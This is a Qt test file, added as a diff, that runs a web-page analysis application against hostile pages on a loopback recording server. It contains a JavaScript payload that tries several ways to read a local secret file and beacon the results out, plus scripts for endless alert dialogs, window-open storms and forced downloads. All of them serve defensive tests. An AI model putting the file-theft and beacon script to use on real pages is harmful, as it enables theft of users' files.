@@ -1,0 +1,415 @@
+// Hostile pages against the whole program under a virtual X server, with the real web engine and
+// a loopback HTTP server that records every request: pages that try to read the user's files and
+// send them away, to launch other programs, to trap the window in dialogs, windows, downloads,
+// frames, reloads or scripts that never end, and pages that change under the analysis. After each,
+// a good page must still be analysed, and the status bar must say what happened.
+#include <QAbstractButton>
+#include <QApplication>
+#include <QComboBox>
+#include <QDir>
+#include <QFile>
+#include <QLabel>
+#include <QLineEdit>
+#include <QMessageBox>
+#include <QTemporaryDir>
+#include <QTimer>
+#include <QWebEngineView>
+#include <QtTest>
+#include <csignal>
+
+#include "app/loopbackserver_for_tests.h"
+#include "app/mainform.h"
+#include "app/pagesourceextractor.h"
+#include "app/test_windows.h"
+#include "app/webenginebrowser.h"
+#include "views/qt/qtext.h"
+
+namespace {
+
+QString u(const char* text) { return QString::fromUtf8(text); }
+
+constexpr int kWaitMs = 30000;
+const QByteArray kSecret = "SECRET-7f3a9c";
+
+QByteArray utf8Page(const QString& body, const QString& head = {}) {
+    return (u("<!DOCTYPE html><html><head><meta charset=\"utf-8\">") + head + u("</head><body>") + body +
+            u("</body></html>"))
+        .toUtf8();
+}
+
+bool writeFile(const QString& path, const QByteArray& bytes) {
+    QFile file(path);
+    return file.open(QIODevice::WriteOnly) && file.write(bytes) == bytes.size();
+}
+
+// A script that tries every way a page has to read a local file, then sends whatever it got to
+// the server at `sink`. `target` is the file's address as the page would write it, `shown` the
+// address it puts in a frame and an image.
+QString stealScript(const QString& target, const QString& shown, const QString& sink) {
+    return u(R"(<script>
+var got = [];
+function note(what) { got.push(String(what).slice(0, 200)); }
+var targets = ["%1", "%4", "secret.txt", "file://" + "%2", "sumoran-local:" + "%2"];
+targets.forEach(function (t) {
+  try { var x = new XMLHttpRequest(); x.open("GET", t, false); x.send(); note("xhr " + x.responseText); }
+  catch (e) { note("xhr refused"); }
+  fetch(t).then(function (r) { return r.text(); }).then(function (s) { note("fetch " + s); },
+                                                         function () { note("fetch refused"); });
+});
+var frame = document.createElement("iframe");
+frame.src = "%4";
+document.body.appendChild(frame);
+setTimeout(function () {
+  try { note("frame " + frame.contentDocument.body.innerText); } catch (e) { note("frame refused"); }
+  var image = new Image();
+  image.onload = function () {
+    try { var c = document.createElement("canvas"); c.getContext("2d").drawImage(image, 0, 0);
+          note("canvas " + c.toDataURL()); } catch (e) { note("canvas refused"); }
+  };
+  image.src = "%4";
+  setTimeout(function () {
+    new Image().src = "%3?beacon=" + encodeURIComponent(got.join("|"));
+    location.href = "%3?d=" + encodeURIComponent(got.join("|"));
+  }, 500);
+}, 1000);
+</script>)")
+        .arg(target, target.startsWith(u("file://")) ? target.mid(7) : target, sink, shown);
+}
+
+// Polls for a modal message box while a nested event loop runs, and answers it.
+class BoxAnswerer : public QObject {
+public:
+    explicit BoxAnswerer(QMessageBox::StandardButton answer) : answer_(answer) {
+        connect(&timer_, &QTimer::timeout, this, [this] {
+            auto* box = qobject_cast<QMessageBox*>(QApplication::activeModalWidget());
+            if (!box) return;
+            texts << box->text();
+            box->button(answer_)->click();
+        });
+        timer_.start(50);
+    }
+    QStringList texts;
+
+private:
+    QMessageBox::StandardButton answer_;
+    QTimer timer_;
+};
+
+}  // namespace
+
+class HostileXvfbTest : public QObject {
+    Q_OBJECT
+
+    QTemporaryDir dir_;
+    LoopbackServer server_;
+    std::unique_ptr<TFormMain> form_;
+    WebEngineBrowser* browser_ = nullptr;
+    int good_ = 0;
+
+    QString status() { return ChildOrDie<QLabel>(form_.get(), "sbBrowserText")->text(); }
+    QString launchedMarker() { return dir_.filePath(u("launched")); }
+
+    bool hasWord(const QString& word) {
+        const std::string wanted = ToCp1251(word);
+        for (const auto& entry : form_->document().analysis.slWordFull) {
+            if (entry.text == wanted) return true;
+        }
+        return false;
+    }
+
+    // Serves a page with a word of its own and waits until the window has analysed it: the
+    // window is still usable after whatever the test did before.
+    void goodPageIsAnalysed() {
+        const QString word = u("контрольное%1").arg(QChar(u'а' + good_ % 32));
+        const QByteArray path = "/good" + QByteArray::number(++good_) + ".html";
+        server_.serve(path, LoopbackServer::Reply{"text/html; charset=utf-8", utf8Page(u("<p>Это %1 слово.</p>").arg(word))});
+        form_->OpenAddress(server_.url(QString::fromLatin1(path)));
+        QTRY_VERIFY_WITH_TIMEOUT(hasWord(word) && !form_->analysisRunning(), kWaitMs);
+        QCOMPARE(status(), u("Document complete"));
+    }
+
+    void open(const QString& address) { form_->OpenAddress(address); }
+
+    // Clicks the page's link with id `id`, as a user would with the mouse.
+    void clickLink(const char* id) {
+        auto* view = qobject_cast<QWebEngineView*>(browser_->view());
+        QVariant rect;
+        bool done = false;
+        view->page()->runJavaScript(
+            QStringLiteral("(function(){var r=document.getElementById('%1').getBoundingClientRect();"
+                           "return [r.left + r.width / 2, r.top + r.height / 2];})()")
+                .arg(QString::fromLatin1(id)),
+            [&](const QVariant& v) {
+                rect = v;
+                done = true;
+            });
+        QTRY_VERIFY_WITH_TIMEOUT(done, kWaitMs);
+        const QVariantList at = rect.toList();
+        QCOMPARE(at.size(), 2);
+        QTest::mouseClick(view->focusProxy(), Qt::LeftButton, {}, QPoint(at[0].toInt(), at[1].toInt()));
+    }
+
+private slots:
+    void initTestCase() {
+        QVERIFY(dir_.isValid());
+        QVERIFY(server_.start());
+        // A stand-in for the desktop's launcher: it leaves a mark when anything is handed to it.
+        const QString bin = dir_.filePath(u("bin"));
+        QVERIFY(QDir().mkpath(bin));
+        QVERIFY(writeFile(bin + u("/xdg-open"), "#!/bin/sh\necho \"$@\" >> '" + launchedMarker().toUtf8() + "'\n"));
+        QVERIFY(QFile::setPermissions(bin + u("/xdg-open"), QFile::ReadOwner | QFile::WriteOwner | QFile::ExeOwner));
+        qputenv("PATH", (bin + u(":") + qEnvironmentVariable("PATH")).toLocal8Bit());
+        qunsetenv("BROWSER");
+        qunsetenv("DEFAULT_BROWSER");
+        QVERIFY(writeFile(dir_.filePath(u("secret.txt")), kSecret + "\n"));
+    }
+
+    void init() {
+        browser_ = new WebEngineBrowser;
+        browser_->setResponseTimeout(1500);
+        form_ = std::make_unique<TFormMain>(browser_, StartupSettings{});
+        form_->extractor()->setTimeout(3000);
+        form_->resize(1200, 900);
+        form_->show();
+        QFile::remove(launchedMarker());
+    }
+
+    void cleanup() {
+        QVERIFY(QDir(form_->temporaryDirectory()).entryList(QDir::Files).isEmpty());
+        QVERIFY(!QApplication::activeModalWidget());
+        form_.reset();
+    }
+
+    void aLocalPageCannotReadOrSendALocalFile() {
+        const QString page = dir_.filePath(u("steal.html"));
+        QVERIFY(writeFile(page, utf8Page(u("<p>Страница с сюрпризом.</p>") +
+                                         stealScript(QUrl::fromLocalFile(dir_.filePath(u("secret.txt"))).toString(),
+                                                     u("secret.txt"), server_.url(u("/leak"))))));
+        open(page);
+        QTRY_VERIFY_WITH_TIMEOUT(server_.requests("/leak") >= 1, kWaitMs);
+        QTest::qWait(500);
+        QVERIFY2(!server_.sawText(kSecret), server_.all().join("\n----\n").constData());
+        // The page did run and did report what it could not do.
+        QVERIFY(server_.sawText("xhr refused"));
+        QVERIFY(server_.sawText("frame refused"));
+        goodPageIsAnalysed();
+    }
+
+    void aRemotePageCannotReachLocalFiles() {
+        const QString secret = QUrl::fromLocalFile(dir_.filePath(u("secret.txt"))).toString();
+        server_.serve("/remote-steal.html",
+                      LoopbackServer::Reply{"text/html; charset=utf-8",
+                                            utf8Page(u("<p>Удалённая страница.</p>") + stealScript(secret, secret, u("/leak2")))});
+        open(server_.url(u("/remote-steal.html")));
+        QTRY_VERIFY_WITH_TIMEOUT(server_.requests("/leak2") >= 1, kWaitMs);
+        QTest::qWait(500);
+        QVERIFY2(!server_.sawText(kSecret), server_.all().join("\n----\n").constData());
+        goodPageIsAnalysed();
+    }
+
+    void externalSchemesAreNeverLaunchedUnasked() {
+        server_.serve("/mailto.html",
+                      LoopbackServer::Reply{"text/html; charset=utf-8",
+                                            utf8Page(u("<p><a id=\"mail\" href=\"mailto:someone@example.org\" "
+                                                       "style=\"display:block;width:300px;height:80px\">Письмо</a></p>"
+                                                       "<script>setTimeout(function(){ location.href = "
+                                                       "'foo:scripted'; }, 300);</script>"))});
+        open(server_.url(u("/mailto.html")));
+        QTRY_VERIFY_WITH_TIMEOUT(hasWord(u("Письмо")), kWaitMs);
+        // The scripted navigation is dropped, with a note.
+        QTRY_VERIFY_WITH_TIMEOUT(status().contains(u("foo:scripted")), kWaitMs);
+        QTest::qWait(1000);
+        QVERIFY(!QFile::exists(launchedMarker()));
+
+        // A click asks; "No" launches nothing.
+        {
+            BoxAnswerer no(QMessageBox::No);
+            clickLink("mail");
+            QTRY_COMPARE_WITH_TIMEOUT(no.texts.size(), 1, kWaitMs);
+            QVERIFY(no.texts.first().contains(u("mailto:someone@example.org")));
+        }
+        QTest::qWait(1000);
+        QVERIFY(!QFile::exists(launchedMarker()));
+
+        // "Yes" hands the address to the desktop.
+        {
+            BoxAnswerer yes(QMessageBox::Yes);
+            clickLink("mail");
+            QTRY_COMPARE_WITH_TIMEOUT(yes.texts.size(), 1, kWaitMs);
+        }
+        QTRY_VERIFY_WITH_TIMEOUT(QFile::exists(launchedMarker()), kWaitMs);
+        goodPageIsAnalysed();
+    }
+
+    void scriptDialogsDoNotTrapTheWindow() {
+        server_.serve("/alerts.html",
+                      LoopbackServer::Reply{"text/html; charset=utf-8",
+                                            utf8Page(u("<p>Окна без конца.</p><script>for (;;) { alert('Ловушка'); "
+                                                       "confirm('Уйти?'); prompt('Имя?'); }</script>"))});
+        open(server_.url(u("/alerts.html")));
+        QTRY_VERIFY_WITH_TIMEOUT(status().contains(u("Окно сообщения страницы не показано")), kWaitMs);
+        QVERIFY(!QApplication::activeModalWidget());
+        goodPageIsAnalysed();
+    }
+
+    void windowOpenStormOpensNoWindow() {
+        server_.serve("/storm.html",
+                      LoopbackServer::Reply{"text/html; charset=utf-8",
+                                            utf8Page(u("<p>Буря окон.</p><a id=\"blank\" target=\"_blank\" href=\"/storm-target.html\" "
+                                                       "style=\"display:block;width:300px;height:80px\">Ссылка</a>"
+                                                       "<script>for (var i = 0; i < 200; ++i) window.open('/storm-target.html');"
+                                                       "</script>"))});
+        server_.serve("/storm-target.html",
+                      LoopbackServer::Reply{"text/html; charset=utf-8", utf8Page(u("<p>Цель бури.</p>"))});
+        const int windows = QApplication::topLevelWidgets().size();
+        open(server_.url(u("/storm.html")));
+        QTRY_VERIFY_WITH_TIMEOUT(hasWord(u("Буря")), kWaitMs);
+        QTest::qWait(1000);
+        QCOMPARE(server_.requests("/storm-target.html"), 0);
+        // A click on a link to a new window opens it in the same view.
+        clickLink("blank");
+        QTRY_VERIFY_WITH_TIMEOUT(hasWord(u("Цель")), kWaitMs);
+        QCOMPARE(QApplication::topLevelWidgets().size(), windows);
+        int views = 0;
+        for (QWidget* w : QApplication::allWidgets()) views += qobject_cast<QWebEngineView*>(w) ? 1 : 0;
+        QCOMPARE(views, 1);
+        goodPageIsAnalysed();
+    }
+
+    void downloadsAreRefused() {
+        server_.serve("/file.bin", LoopbackServer::Reply{"application/octet-stream", "binary payload",
+                                                         "Content-Disposition: attachment; filename=\"payload.bin\"\r\n"});
+        server_.serve("/download.html",
+                      LoopbackServer::Reply{"text/html; charset=utf-8",
+                                            utf8Page(u("<p>Загрузка.</p><script>setTimeout(function(){ location.href = "
+                                                       "'/file.bin'; }, 200);</script>"))});
+        open(server_.url(u("/download.html")));
+        QTRY_VERIFY_WITH_TIMEOUT(status().contains(u("Загрузка файла отклонена")), kWaitMs);
+        QVERIFY(status().contains(u("payload.bin")));
+        goodPageIsAnalysed();
+    }
+
+    void aThousandFramesAreReadUpToTheBound() {
+        auto word = [](int k) { return u("кадр") + QChar(u'а' + k / 32 % 32) + QChar(u'а' + k % 32); };
+        // Frames filled by script, so that their words are in no other document.
+        const QString frames = u("<script>for (var k = 0; k < 1000; ++k) {"
+                                 " var f = document.createElement('iframe'); f.width = 20; f.height = 20;"
+                                 " document.body.appendChild(f);"
+                                 " f.contentDocument.body.innerHTML = '<p>кадр' +"
+                                 " String.fromCharCode(0x430 + (k >> 5) % 32, 0x430 + k % 32) + '</p>'; }</script>");
+        QCOMPARE(word(33), u("кадрбб"));
+        server_.serve("/frames.html", LoopbackServer::Reply{"text/html; charset=utf-8", utf8Page(frames)});
+        open(server_.url(u("/frames.html")));
+        QTRY_VERIFY_WITH_TIMEOUT(hasWord(word(0)) && !form_->analysisRunning(), 2 * kWaitMs);
+        QVERIFY(hasWord(word(PageSourceExtractor::kMaxFrames - 1)));
+        QVERIFY(!hasWord(word(PageSourceExtractor::kMaxFrames)));
+        QVERIFY2(status().contains(u("Кадров на странице: 1000, прочитаны первые 64")), qPrintable(status()));
+        goodPageIsAnalysed();
+    }
+
+    void aMetaRefreshLoopLetsTheUserLeave() {
+        server_.serve("/refresh.html",
+                      LoopbackServer::Reply{"text/html; charset=utf-8",
+                                            utf8Page(u("<p>Снова и снова.</p>"), u("<meta http-equiv=\"refresh\" content=\"0\">"))});
+        open(server_.url(u("/refresh.html")));
+        QTRY_VERIFY_WITH_TIMEOUT(server_.requests("/refresh.html") >= 5, kWaitMs);
+        goodPageIsAnalysed();
+    }
+
+    void aScriptThatNeverEndsIsGivenUp() {
+        server_.serve("/forever.html",
+                      LoopbackServer::Reply{"text/html; charset=utf-8",
+                                            utf8Page(u("<p>Вечный цикл.</p><script>window.onload = function () { "
+                                                       "setTimeout(function () { for (;;) {} }, 0); };</script>"))});
+        open(server_.url(u("/forever.html")));
+        QTRY_VERIFY_WITH_TIMEOUT(status().contains(u("Страница не отдала исходный текст за 3 с")), kWaitMs);
+        QVERIFY(!form_->analysisRunning());
+        goodPageIsAnalysed();
+    }
+
+    void aKilledRenderProcessKeepsTheResults() {
+        goodPageIsAnalysed();
+        const auto words = form_->document().analysis.slWordFull.size();
+        server_.serve("/busy.html",
+                      LoopbackServer::Reply{"text/html; charset=utf-8",
+                                            utf8Page(u("<p>Занятая страница.</p><script>window.onload = function () { "
+                                                       "setTimeout(function () { var t = Date.now(); "
+                                                       "while (Date.now() - t < 20000) {} }, 0); };</script>"))});
+        open(server_.url(u("/busy.html")));
+        QTRY_VERIFY_WITH_TIMEOUT(form_->analysisRunning(), kWaitMs);
+        QVERIFY(browser_->renderProcessPid() > 0);
+        ::kill(static_cast<pid_t>(browser_->renderProcessPid()), SIGKILL);
+        QTRY_VERIFY_WITH_TIMEOUT(status().contains(u("Процесс отображения страницы завершился")), kWaitMs);
+        QVERIFY(!form_->analysisRunning());
+        QCOMPARE(form_->document().analysis.slWordFull.size(), words);
+        QVERIFY(!hasWord(u("Занятая")));
+        goodPageIsAnalysed();
+    }
+
+    void aPageThatLeavesDuringTheExtractionIsNotMixedIn() {
+        server_.serve("/leaving.html",
+                      LoopbackServer::Reply{"text/html; charset=utf-8",
+                                            utf8Page(u("<p>Уходящая страница.</p><script>window.onload = function () { "
+                                                       "setTimeout(function () { var t = Date.now(); "
+                                                       "while (Date.now() - t < 1000) {} location.href = '/arrived.html'; "
+                                                       "}, 0); };</script>"))});
+        server_.serve("/arrived.html",
+                      LoopbackServer::Reply{"text/html; charset=utf-8", utf8Page(u("<p>Пришедшая страница.</p>"))});
+        open(server_.url(u("/leaving.html")));
+        QTRY_VERIFY_WITH_TIMEOUT(hasWord(u("Пришедшая")) && !form_->analysisRunning(), kWaitMs);
+        QVERIFY(!hasWord(u("Уходящая")));
+        goodPageIsAnalysed();
+    }
+
+    void anAddressThatDoesNotResolveSaysSo() {
+        goodPageIsAnalysed();
+        const auto words = form_->document().analysis.slWordFull.size();
+        open(u("http://no-such-host.invalid/page.html"));
+        QTRY_VERIFY_WITH_TIMEOUT(status().contains(u("Не удалось загрузить страницу")), kWaitMs);
+        QVERIFY(status().contains(u("адрес сервера не найден")));
+        auto* errorPage = browser_->view()->findChild<QLabel*>(u("wbErrorPage"));
+        QVERIFY(errorPage && errorPage->isVisible());
+        QVERIFY(errorPage->text().contains(u("Страница не загружена")));
+        QCOMPARE(form_->document().analysis.slWordFull.size(), words);
+        goodPageIsAnalysed();
+        QVERIFY(!errorPage->isVisible());
+    }
+
+    void thePageOnScreenIsAnalysedWithoutAskingAgain() {
+        server_.serve("/changing.html", [](int n) {
+            return LoopbackServer::Reply{"text/html; charset=utf-8",
+                                         utf8Page(u("<p>Запрос %1 слово.</p>").arg(n == 1 ? u("первый") : u("второй"))),
+                                         "Cache-Control: no-store\r\n"};
+        });
+        open(server_.url(u("/changing.html")));
+        QTRY_VERIFY_WITH_TIMEOUT(hasWord(u("первый")) && !form_->analysisRunning(), kWaitMs);
+        QVERIFY(!hasWord(u("второй")));
+        QCOMPARE(server_.requests("/changing.html"), 1);
+        // A forced analysis and an index option take the same page again, not a new copy.
+        QMetaObject::invokeMethod(form_.get(), "ExtractAndAnalyse");
+        QTRY_VERIFY_WITH_TIMEOUT(!form_->analysisRunning(), kWaitMs);
+        ChildOrDie<QAction>(form_.get(), "miIndexTitle")->trigger();
+        QTRY_VERIFY_WITH_TIMEOUT(!form_->analysisRunning(), kWaitMs);
+        QTest::qWait(500);
+        QVERIFY(hasWord(u("первый")));
+        QVERIFY(!hasWord(u("второй")));
+        QCOMPARE(server_.requests("/changing.html"), 1);
+    }
+
+    void enterInTheAddressBoxNavigatesOnce() {
+        server_.serve("/enter.html", LoopbackServer::Reply{"text/html; charset=utf-8", utf8Page(u("<p>Ввод адреса.</p>"))});
+        auto* box = ChildOrDie<QComboBox>(form_.get(), "cbURLNavigator");
+        const QString address = server_.url(u("/enter.html"));
+        for (int round = 1; round <= 2; ++round) {  // the second time the address is in the history
+            box->setEditText(address);
+            box->lineEdit()->setFocus();
+            QTest::keyClick(box->lineEdit(), Qt::Key_Return);
+            QTRY_VERIFY_WITH_TIMEOUT(server_.requests("/enter.html") >= round && !form_->analysisRunning(), kWaitMs);
+            QTest::qWait(1000);
+            QCOMPARE(server_.requests("/enter.html"), round);
+        }
+    }
+};
+
+QTEST_MAIN(HostileXvfbTest)
+#include "hostile_xvfb_test.moc"
